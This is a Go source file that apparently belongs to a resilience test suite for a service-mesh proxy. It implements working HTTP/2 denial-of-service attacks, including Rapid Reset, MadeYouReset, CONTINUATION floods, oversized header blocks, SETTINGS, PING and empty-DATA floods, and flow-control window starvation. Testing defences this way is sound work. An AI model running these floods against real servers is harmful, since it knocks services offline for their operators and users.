package abuse

import (
	"bytes"
	"errors"
	"io"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// peer is a hostile end of HTTP/2: a proxy with a certificate of the mesh, or a
// client without one.
type peer struct {
	*http2.Framer
	c      *hostile
	blocks strings.Builder
	enc    *hpack.Encoder
	where  string // leno-link; empty for a client
}

// framed makes an attack of frames. It begins when the proxy has sent its
// SETTINGS: it has let the attacker in. What it says after that is read and
// dropped, unless the attacker is deaf.
func framed(where string, deaf bool, settings []http2.Setting, do func(p *peer) error) attack {
	return func(c *hostile) error {
		// Each one costs the honest a slice of the machine; that is not what is tested.
		defer time.Sleep(10 * rest)
		p := &peer{Framer: http2.NewFramer(c, c), c: c, where: where}
		p.AllowIllegalWrites = true
		p.enc = hpack.NewEncoder(&p.blocks)
		if _, err := io.WriteString(c, http2.ClientPreface); err != nil {
			return err
		}
		if err := p.WriteSettings(settings...); err != nil {
			return err
		}
		first, err := p.ReadFrame()
		if err != nil {
			return err
		}
		if _, ok := first.(*http2.SettingsFrame); !ok {
			return errors.New("the proxy does not begin with SETTINGS")
		}
		if !deaf {
			go io.Copy(io.Discard, c) // ends with the connection
		}
		return do(p)
	}
}

// head is the block of a request, with more fields.
func (p *peer) head(more ...hpack.HeaderField) []byte {
	p.blocks.Reset()
	fields := append([]hpack.HeaderField{
		{Name: ":method", Value: "POST"},
		{Name: ":scheme", Value: "http"},
		{Name: ":authority", Value: "app.shop:8080"},
		{Name: ":path", Value: "/"},
	}, more...)
	if p.where != "" {
		fields = append(fields, hpack.HeaderField{Name: "leno-link", Value: p.where})
	}
	for _, f := range fields {
		_ = p.enc.WriteField(f)
	}
	return []byte(p.blocks.String())
}

func (p *peer) open(id uint32, end bool) error {
	return p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.head(), EndHeaders: true, EndStream: end})
}

// gather has hundreds of something said at once, again and again: a flood
// whose rate does not hang on how fast a busy machine writes.
func (p *peer) gather(say func(f *http2.Framer, n uint32)) error {
	var b bytes.Buffer
	f := http2.NewFramer(&b, nil)
	f.AllowIllegalWrites = true
	for n := uint32(0); ; {
		b.Reset()
		for range 256 {
			say(f, n)
			n++
		}
		if _, err := p.c.Write(b.Bytes()); err != nil {
			return err
		}
		p.c.went()
		time.Sleep(pace)
	}
}

// rapidReset opens streams and takes them back at once (CVE-2023-44487).
func rapidReset(p *peer) error {
	return p.gather(func(f *http2.Framer, n uint32) {
		id := 2*n + 1
		_ = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.head(), EndHeaders: true, EndStream: true})
		_ = f.WriteRSTStream(id, http2.ErrCodeCancel)
	})
}

// lateReset fills what it may have with requests, takes them back when they are being
// served, slowly enough for no flood, and begins again.
func lateReset(p *peer) error {
	for first := uint32(1); ; {
		id := first
		for range 128 {
			if err := p.open(id, false); err != nil {
				return err
			}
			id += 2
		}
		time.Sleep(10 * pace)
		for ; first < id; first += 2 {
			if err := p.WriteRSTStream(first, http2.ErrCodeCancel); err != nil {
				return err
			}
		}
		p.c.went()
	}
}

// madeYouReset has the proxy take streams back that were asked for: what comes
// for them after their end is an error of theirs alone (CVE-2025-8671).
func madeYouReset(p *peer) error {
	for id := uint32(1); ; id += 2 {
		if err := p.open(id, true); err != nil {
			return err
		}
		if err := p.WriteData(id, false, []byte("x")); err != nil {
			return err
		}
		p.c.went()
		if id%8 == 1 {
			time.Sleep(pace)
		}
	}
}

// halfBlock begins a head and never ends it.
func halfBlock(p *peer) error {
	block := p.head(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 14<<10)})
	if err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block}); err != nil {
		return err
	}
	return hold(nil)(p.c)
}

// smallFields sends heads of very many fields, which are little on the way
// since a table has them.
func smallFields(p *peer) error {
	fields := make([]hpack.HeaderField, 1500)
	for i := range fields {
		fields[i] = hpack.HeaderField{Name: "a", Value: "b"}
	}
	for id := uint32(1); id < 8; id += 2 {
		err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: p.head(fields...), EndHeaders: true})
		if err != nil {
			return err
		}
	}
	return lively(p)
}

// continuations sends a head that never ends.
func continuations(p *peer) error {
	err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: p.head()})
	for err == nil {
		p.c.went()
		err = p.WriteContinuation(1, false, []byte("\x00\x01a\x01b"))
	}
	return err
}

// hugeHead sends heads over every limit.
func hugeHead(p *peer) error {
	for id := uint32(1); ; id += 2 {
		block := p.head(hpack.HeaderField{Name: "x", Value: strings.Repeat("y", 100<<10)})
		first := block[:16<<10]
		rest := block[16<<10:]
		err := p.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: first})
		for err == nil && len(rest) > 0 {
			n := min(len(rest), 16<<10)
			err = p.WriteContinuation(id, n == len(rest), rest[:n])
			rest = rest[n:]
		}
		if err != nil {
			return err
		}
		p.c.went()
		time.Sleep(pace)
	}
}

func settingsFlood(p *peer) error {
	return p.gather(func(f *http2.Framer, _ uint32) {
		_ = f.WriteSettings(http2.Setting{ID: http2.SettingHeaderTableSize, Val: 0})
	})
}

func pingFlood(p *peer) error {
	return p.gather(func(f *http2.Framer, _ uint32) { _ = f.WritePing(false, [8]byte{}) })
}

// emptyData needs more than 4096 frames in a second.
func emptyData(p *peer) error {
	if err := p.open(1, false); err != nil {
		return err
	}
	return p.gather(func(f *http2.Framer, _ uint32) { _ = f.WriteData(1, false, nil) })
}

// shutWindow asks for many answers and never lets them come, on a connection
// that is alive otherwise.
func shutWindow(streams int) func(*peer) error {
	return func(p *peer) error {
		if err := ask(p, streams, 8<<10); err != nil {
			return err
		}
		return lively(p)
	}
}

// tinyWindow lets answers come byte by byte.
func tinyWindow(p *peer) error {
	if err := ask(p, 50, 4<<10); err != nil {
		return err
	}
	for n := 0; ; n++ {
		if err := p.WriteWindowUpdate(uint32(2*(n%50)+1), 1); err != nil {
			return err
		}
		p.c.went()
		time.Sleep(pace)
	}
}

// ask asks for the echo of bodies of n bytes.
func ask(p *peer, streams, n int) error {
	for i := range streams {
		id := uint32(2*i + 1)
		if err := p.open(id, false); err != nil {
			return err
		}
		if err := p.WriteData(id, true, make([]byte, n)); err != nil {
			return err
		}
	}
	return nil
}

// slowStreams begins bodies and lets them wait.
func slowStreams(streams int) func(*peer) error {
	return func(p *peer) error {
		for i := range streams {
			if err := p.open(uint32(2*i+1), false); err != nil {
				return err
			}
		}
		return lively(p)
	}
}

// lively keeps a connection busy without asking for anything more.
func lively(p *peer) error {
	p.c.went()
	for {
		time.Sleep(50 * pace)
		if err := p.WritePing(false, [8]byte{1}); err != nil {
			return err
		}
	}
}
